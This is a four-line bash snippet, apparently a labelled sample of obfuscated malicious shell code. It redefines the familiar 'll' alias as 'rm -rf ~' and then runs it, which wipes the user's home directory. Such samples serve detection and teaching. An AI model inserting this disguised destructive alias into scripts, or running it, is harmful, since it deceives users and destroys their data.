# Malicious, obfuscated: an alias makes the harmless-looking `ll` run rm -rf ~.
shopt -s expand_aliases
alias ll='rm -rf ~'
ll
